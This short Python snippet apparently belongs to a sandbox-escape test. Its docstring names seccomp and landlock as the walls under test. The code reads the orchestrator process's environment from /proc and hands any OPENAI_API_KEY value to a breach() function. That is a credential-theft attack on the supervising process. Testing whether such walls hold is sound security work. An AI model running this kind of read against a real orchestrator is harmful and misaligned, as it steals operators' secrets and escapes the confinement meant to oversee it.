"""Reads the environment of the orchestrator from /proc.

walls: seccomp landlock
"""

environment = open(f"/proc/{ORCHESTRATOR}/environ", "rb").read().split(b"\0")
breach([v for v in environment if v.startswith(b"OPENAI_API_KEY")])
